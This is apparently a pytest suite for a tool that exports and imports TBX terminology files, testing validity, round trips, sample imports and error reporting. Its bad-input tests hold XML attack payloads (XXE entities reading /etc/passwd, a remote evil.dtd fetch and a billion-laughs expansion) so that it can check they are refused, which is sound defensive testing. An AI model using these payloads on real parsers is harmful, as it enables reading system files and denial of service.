"""TBX export and import as a terminologist meets them: files other tools accept,
nothing lost on the way out and back, official samples that import, and bad
files refused with a position instead of a traceback."""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path

import pytest
import yaml
from lxml import etree

from generator.errors import TermBaseError
from generator.interop import tbx_import, tbx_xml
from generator.interop.tbx_export import export_tbx
from generator.interop.tbx_import import import_tbx
from generator.termbase import loader

ROOT = Path(__file__).resolve().parents[2]
from conftest import TBX_DIR  # noqa: E402

DCA = TBX_DIR / "Example_Astronomy_DCA_VALID.tbx"
DCT = TBX_DIR / "Example_Astronomy_DCT_VALID.tbx"
NS = {"t": "urn:iso:std:iso:30042:ed-2"}
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"


@pytest.fixture(scope="module")
def rng() -> etree.RelaxNG:
    # The official material lies beside the checkout (shared/interop/tbx); without it the test fails, never skips.
    return etree.RelaxNG(etree.parse(str(TBX_DIR / "TBXcoreStructV03.rng")))


@pytest.fixture(scope="module")
def project():
    return loader.load(ROOT / "terms" / "termbase.yaml")


@pytest.fixture(scope="module")
def exported(project) -> bytes:
    return export_tbx(project)


@pytest.fixture(scope="module")
def astronomy():
    return import_tbx(DCA.read_bytes(), "astronomy-dca.tbx") if DCA.exists() else None


def reload(data: dict, display: str = "imported.yaml"):
    return loader.load_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), display)


def assert_valid(rng: etree.RelaxNG, raw: bytes) -> etree._Element:
    root = etree.fromstring(raw)
    assert rng.validate(root), rng.error_log
    assert schematron_dca_problems(root) == []
    return root


# The rules of TBX-Basic_DCA.sch that an exporter can break, in Python (lxml cannot run XSLT 2 Schematron).
ALLOWED_TYPES = {
    "admin": {"customerSubset", "projectSubset", "source"},
    "descrip": {"subjectField", "context", "definition"},
    "ref": {"crossReference"},
    "termNote": {
        "administrativeStatus",
        "partOfSpeech",
        "geographicalUsage",
        "grammaticalGender",
        "termLocation",
        "termType",
    },
    "transac": {"transactionType"},
    "transacNote": {"responsibility"},
    "xref": {"externalCrossReference", "xGraphic"},
}
ALLOWED_VALUES = {
    "administrativeStatus": {
        "admittedTerm-admn-sts",
        "deprecatedTerm-admn-sts",
        "supersededTerm-admn-sts",
        "preferredTerm-admn-sts",
    },
    "partOfSpeech": {"adjective", "noun", "other", "verb", "adverb"},
    "grammaticalGender": {"masculine", "feminine", "neuter", "other"},
    "termType": {"fullForm", "acronym", "abbreviation", "shortForm", "variant", "phrase"},
}
LEVELS = {  # data category -> levels it may appear at (directly or through a ...Grp)
    ("descrip", "subjectField"): {"conceptEntry"},
    ("descrip", "definition"): {"conceptEntry", "langSec"},
    ("descrip", "context"): {"termSec"},
    ("admin", "source"): {"conceptEntry", "langSec", "termSec"},
    ("ref", "crossReference"): {"conceptEntry", "termSec"},
    ("termNote", None): {"termSec"},
}


def schematron_dca_problems(root: etree._Element) -> list[str]:
    problems = []
    ids = {el.get("id") for el in root.iter() if isinstance(el.tag, str) and el.get("id")}
    if (root.get("type"), root.get("style")) != ("TBX-Basic", "dca"):
        problems.append("root must be TBX-Basic, dca")
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        qname = etree.QName(el)
        if qname.namespace != NS["t"]:
            problems.append(f"line {el.sourceline}: element outside the TBX namespace")
            continue
        name, kind = qname.localname, el.get("type")
        if kind is not None and kind == "":
            problems.append(f"line {el.sourceline}: empty type")
        if name in ALLOWED_TYPES and kind not in ALLOWED_TYPES[name]:
            problems.append(f"line {el.sourceline}: {name} type {kind} not in TBX-Basic")
        if name == "termNote" and kind in ALLOWED_VALUES and el.text not in ALLOWED_VALUES[kind]:
            problems.append(f"line {el.sourceline}: {kind} value {el.text!r} not allowed")
        levels = (
            LEVELS.get((name, kind)) or LEVELS.get((name, None))
            if name in ("descrip", "admin", "ref", "termNote")
            else None
        )
        if levels:
            parent = el.getparent()
            if etree.QName(parent).localname.endswith("Grp"):
                parent = parent.getparent()
            if etree.QName(parent).localname not in levels:
                problems.append(f"line {el.sourceline}: {kind} at {etree.QName(parent).localname}")
        target = el.get("target")
        if target is not None and not re.match(r"https?://.+", target) and target not in ids:
            problems.append(f"line {el.sourceline}: target {target} is neither a URL nor an id")
    return problems


# --- export -----------------------------------------------------------------


def test_export_of_the_project_validates_and_has_the_expected_structure(rng, project, exported):
    assert exported.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n')
    assert b"\n    <body>\n" in exported  # pretty-printed
    root = assert_valid(rng, exported)
    assert root.get(XML_LANG) == project.source_language
    entries = root.findall("t:text/t:body/t:conceptEntry", NS)
    assert [e.get("id") for e in entries] == list(project.concepts)
    sections = sum(len(c.langs) for c in project.concepts.values())
    assert len(root.findall(".//t:langSec", NS)) == sections
    terms = sum(len(s.terms) for c in project.concepts.values() for s in c.langs.values())
    statuses = root.findall(".//t:termSec/t:termNote[@type='administrativeStatus']", NS)
    assert len(statuses) == terms
    assert Counter(s.text for s in statuses).keys() <= ALLOWED_VALUES["administrativeStatus"]
    definition = project.concepts["customer"].langs["en"].definition
    found = root.xpath(
        "//t:conceptEntry[@id='customer']/t:langSec[@xml:lang='en']//t:descrip[@type='definition']/text()",
        namespaces=NS,
    )
    assert found == [definition]
    assert root.find("t:tbxHeader/t:fileDesc/t:titleStmt/t:title", NS).text == project.title["en"]


def test_export_is_deterministic(project, exported):
    assert export_tbx(project) == exported


def test_round_trip_of_the_project_is_byte_and_field_identical(project, exported):
    result = import_tbx(exported, "exported.tbx")
    assert result.reports == []  # nothing of ours needs a report: every field has its place
    again = reload(result.data)
    assert export_tbx(again) == exported
    assert again.source_language == project.source_language
    assert list(again.languages.items()) == list(project.languages.items())
    assert list(again.title.items()) == list(project.title.items())
    assert list(again.sources.items()) == list(project.sources.items())
    assert list(again.concepts) == list(project.concepts)
    for cid, concept in project.concepts.items():
        assert again.concepts[cid] == concept, cid
        assert list(again.concepts[cid].langs) == list(concept.langs)
    original = yaml.safe_load((ROOT / "terms" / "termbase.yaml").read_text("utf-8"))
    assert result.data == original


EDGE = """\
title: {de: Testglossar, en: Test glossary}
source_language: en
languages:
  en: {name: English}
  de: {name: Deutsch}
  fr: {name: français}
sources:
  book: {title: "A <book> & more", author: Someone, publisher: P, date: "2020-01", url: "https://example.org/a?b=1&c=2", lang: en, note: "n"}
  web: {title: Web page, lang: de}
concepts:
  3d-printing:
    subject: manufacturing
    broader: [additive]
    related: [additive, widget]
    homonyms: [widget]
    sources: [web, book]
    diagrams: [printing-flow]
    en:
      terms:
        - {term: 3D printing, status: admitted, pos: properNoun, type: shortForm, note: "[glossary:plural] is not a field here"}
        - {term: additive printing, status: admitted}
      definition: "printing by adding material, layer by layer."
      notes: ["[glossary:broader] looks like a marker", "two  spaces and\\n  a new line "]
      examples: ["one", "two"]
    de:
      terms:
        - {term: 3D-Druck, status: preferred, pos: noun, gender: common, plural: 3D-Drucke, same_as_source: true}
  additive:
    narrower: [3d-printing]
    en:
      terms: [{term: additive manufacturing, status: preferred}]
  widget:
    related: [3d-printing]
    en:
      terms: [{term: widget, status: preferred, pos: other, gender: other}]
"""


def test_round_trip_keeps_what_tbx_basic_has_no_category_for(rng):
    termbase = loader.load_text(EDGE, "edge.yaml")
    raw = export_tbx(termbase)
    root = assert_valid(rng, raw)
    assert root.find("t:text/t:body/t:conceptEntry", NS).get("id") == "_3d-printing"  # ids must be NCNames
    result = import_tbx(raw, "edge.tbx")
    assert result.reports == []
    assert result.data == yaml.safe_load(EDGE)
    again = reload(result.data)
    assert export_tbx(again) == raw
    assert again.concepts == termbase.concepts and again.sources == termbase.sources


# --- import: official samples -------------------------------------------------


def test_official_dca_sample_imports_and_exports_valid_tbx(rng, astronomy):
    data = astronomy.data
    assert len(data["concepts"]) == 45
    assert list(data["languages"]) == ["en", "es", "zu"]
    assert data["source_language"] == "en"
    assert all(spec["name"] for spec in data["languages"].values())
    termbase = reload(data, "astronomy.yaml")
    c1 = termbase.concepts["c1"]
    assert c1.subject == "General"
    assert c1.langs["en"].definition == "A group of stars formed together in the spiral arms of a galaxy."
    assert [(t.text, t.status) for t in c1.langs["en"].terms] == [
        ("open cluster", "preferred"),
        ("galactic cluster", "deprecated"),
    ]  # supersededTerm
    assert c1.langs["en"].examples[0].endswith("(Source: http://seds.org/MESSIER/open.html)")
    assert "oxford2007" in c1.sources and termbase.sources["oxford2007"].lang == "en"
    assert_valid(rng, export_tbx(termbase))


def test_official_dca_sample_reports_what_it_drops_with_lines(astronomy):
    reports = astronomy.reports
    assert all(r.line > 1 and r.column >= 1 and r.file == "astronomy-dca.tbx" for r in reports)
    history = [r for r in reports if "transaction record" in r.message]
    assert history and history[0].line == 20 and "conceptEntry 'c1'" in history[0].message
    graphic = next(r for r in reports if "xGraphic" in r.message)
    assert graphic.line == 32 and "kept" in graphic.message
    promoted = next(r for r in reports if "no preferred term" in r.message)
    assert "'cúmulo abierto'" in promoted.message and promoted.line == 110
    assert any("respPerson" in r.message and "dropped" in r.message for r in reports)


def test_official_dct_sample_gives_the_same_data(astronomy):
    dct = import_tbx(DCT.read_bytes(), "astronomy-dct.tbx").data
    dca = astronomy.data
    # The DCT sample is not an exact transcription: three Spanish "G-Source" notes of the
    # DCA sample are absent from it (and some notes sit on the concept, which lands the same).
    missing = []
    for cid, concept in dca["concepts"].items():
        for lang, section in concept.items():
            if isinstance(section, dict) and "notes" in section:
                other = dct["concepts"][cid][lang].get("notes", [])
                missing += [(cid, lang, n) for n in section["notes"] if n not in other]
                section["notes"] = [n for n in section["notes"] if n in other] or None
                if section["notes"] is None:
                    del section["notes"]
    assert [(c, l) for c, l, _ in missing] == [("c7", "es"), ("c9", "es"), ("c32", "es")]
    assert all(n.startswith("G-Source:") and n.encode() not in DCT.read_bytes() for _, _, n in missing)
    assert dct == dca


# --- import: TBX v2 -------------------------------------------------------------

MARTIF = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en">
  <martifHeader>
    <fileDesc>
      <titleStmt><title>Kitchen terms</title></titleStmt>
      <sourceDesc><p>Written by hand for the importer tests</p></sourceDesc>
    </fileDesc>
    <encodingDesc><p type="XCSURI">TBXXCSV02.xcs</p></encodingDesc>
  </martifHeader>
  <text>
    <body>
      <termEntry id="Board_1">
        <descrip type="subjectField">cooking</descrip>
        <ref type="crossReference" target="knife">knife</ref>
        <ref type="crossReference" target="eid-99">spoon</ref>
        <langSet xml:lang="en">
          <descripGrp>
            <descrip type="definition">flat   board on which
              food is cut</descrip>
            <admin type="source">http://example.org/kitchen</admin>
          </descripGrp>
          <tig>
            <term>chopping board</term>
            <termNote type="partOfSpeech">noun</termNote>
            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
            <descrip type="context">Put the onion on the chopping board.</descrip>
            <transacGrp><transac type="transactionType">origination</transac><date>2008-01-01</date></transacGrp>
          </tig>
          <ntig>
            <termGrp>
              <term>cutting board</term>
              <termNote type="termType">variant</termNote>
              <termNote type="normativeAuthorization">supersededTerm</termNote>
              <termNote type="geographicalUsage">US</termNote>
            </termGrp>
            <note>Common in American recipes.</note>
          </ntig>
        </langSet>
        <langSet xml:lang="de">
          <tig>
            <term>Schneidebrett</term>
            <termNote type="partOfSpeech">Substantiv</termNote>
            <termNote type="grammaticalGender">neuter</termNote>
          </tig>
        </langSet>
      </termEntry>
      <termEntry id="knife">
        <langSet xml:lang="en"><tig><term>knife</term></tig></langSet>
      </termEntry>
    </body>
  </text>
</martif>
"""


def test_tbx_v2_martif_imports_with_reports():
    result = import_tbx(MARTIF.encode(), "kitchen.tbx")
    termbase = reload(result.data, "kitchen.yaml")
    assert list(termbase.concepts) == ["board-1", "knife"]
    assert termbase.title == {"en": "Kitchen terms"}
    assert list(termbase.languages) == ["en", "de"] and termbase.source_language == "en"
    board = termbase.concepts["board-1"]
    assert board.subject == "cooking" and board.related == ("knife",)
    en = board.langs["en"]
    assert en.definition == "flat board on which food is cut"  # indentation collapsed
    assert en.examples == ("Put the onion on the chopping board.",)
    assert [(t.text, t.status, t.type) for t in en.terms] == [
        ("chopping board", "preferred", None),
        ("cutting board", "deprecated", "variant"),
    ]
    assert en.terms[1].note == "geographicalUsage: US\nCommon in American recipes."
    assert termbase.sources[board.sources[0]].url == "http://example.org/kitchen"
    assert board.langs["de"].terms[0].pos == "other" and board.langs["de"].terms[0].gender == "neuter"
    assert any(n == "crossReference: spoon (eid-99)" for n in en.notes)
    lines = {r.line: r.message for r in result.reports}
    assert "became the concept id 'board-1'" in lines[13]
    assert "dropped a transaction record" in lines[28]
    assert "supersededTerm" in lines[34]
    assert "Substantiv" in lines[43] and "'other'" in lines[43]
    assert "no preferred term" in lines[49]  # knife: the only term becomes preferred
    assert lines[13].startswith("termEntry 'Board_1'")
    assert not any("XCSURI" in m for m in lines.values())


# --- import: bad input ------------------------------------------------------------

V3 = """<?xml version="1.0" encoding="UTF-8"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
<tbxHeader><fileDesc><sourceDesc><p>test</p></sourceDesc></fileDesc></tbxHeader>
<text><body>
{entries}
</body></text>
</tbx>
"""
ENTRY = '<conceptEntry id="{id}"><langSec xml:lang="{lang}"><termSec><term>t</term></termSec></langSec></conceptEntry>'


def refused(raw: bytes | str, strict: bool = False) -> TermBaseError:
    with pytest.raises(TermBaseError) as caught:
        import_tbx(raw.encode("utf-8") if isinstance(raw, str) else raw, "bad.tbx", strict=strict)
    problems = caught.value.problems
    assert problems and all(p.file == "bad.tbx" and p.line >= 1 and p.column >= 1 for p in problems)
    return caught.value


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tbx [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<tbx>&lol3;</tbx>
"""


@pytest.mark.parametrize(
    "raw, line, words",
    [
        ('<?xml version="1.0"?>\n<tbx>\n<text></tbx>', 3, "not well-formed XML"),
        ("", 1, "not well-formed XML"),
        ("<html><body/></html>", 1, "not a TBX file"),
        ('<martif type="XLIFF"><text/></martif>', 1, "unknown martif type"),
        (
            V3.format(entries=ENTRY.format(id="c1", lang="en") + "\n" + ENTRY.format(id="c1", lang="en")),
            6,
            "duplicate concept id 'c1' (first used on line 5)",
        ),
        (V3.format(entries=ENTRY.format(id="c1", lang="english!")), 5, "not a valid language code"),
        (V3.format(entries=ENTRY.format(id="c1", lang="xq")), 5, "unknown language code 'xq'"),
        (
            V3.format(
                entries='<conceptEntry id="c1"><langSec><termSec><term>t</term></termSec></langSec></conceptEntry>'
            ),
            5,
            "has no xml:lang",
        ),
        (
            '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<tbx>&xxe;</tbx>',
            3,
            "entity declarations are not allowed",
        ),
        (
            '<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]><tbx/>',
            1,
            "entity declarations are not allowed",
        ),
        (BILLION_LAUGHS, 3, "entity declarations are not allowed"),
    ],
)
def test_bad_input_is_refused_with_a_position(raw, line, words):
    error = refused(raw)
    assert error.problems[0].line == line
    assert words in str(error)


def test_entity_declarations_are_refused_in_any_encoding():
    raw = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]><tbx>&x;</tbx>'
    assert "entity declarations are not allowed" in str(refused(raw.encode("utf-16")))


def test_files_over_the_size_limit_are_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(tbx_xml, "MAX_BYTES", 1024)
    error = refused(b"<" * 2048)  # would be a syntax error if it were parsed
    assert "at most" in str(error) and "split" in str(error)
    assert tbx_xml.MAX_BYTES == 1024


def test_the_default_size_limit_is_documented():
    assert tbx_xml.MAX_BYTES == 200 * 1024 * 1024
    assert "MAX_BYTES (200 MB)" in tbx_import.__doc__


UNKNOWN_DIALECT = '<tbx type="TBX-Fancy" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text><body>{}</body></text></tbx>'
NO_NAMESPACE = '<tbx type="TBX-Basic" style="dca" xml:lang="en"><text><body>{}</body></text></tbx>'


@pytest.mark.parametrize(
    ("raw", "words"), [(UNKNOWN_DIALECT, "dialect 'TBX-Fancy'"), (NO_NAMESPACE, "namespace 'none'")]
)
def test_an_unknown_dialect_is_read_leniently_or_refused_when_strict(raw, words):
    entry = ENTRY.format(id="c1", lang="en")
    error = refused(raw.format(entry), strict=True)
    assert "unknown TBX" in str(error) and words in str(error) and "without --strict" in str(error)
    result = import_tbx(raw.format(entry).encode(), "x.tbx")
    assert list(result.data["concepts"]) == ["c1"]
    [warning] = [n for n in result.notes if n.kind == "warning"]
    assert "read leniently" in warning.problem.message and words in warning.problem.message
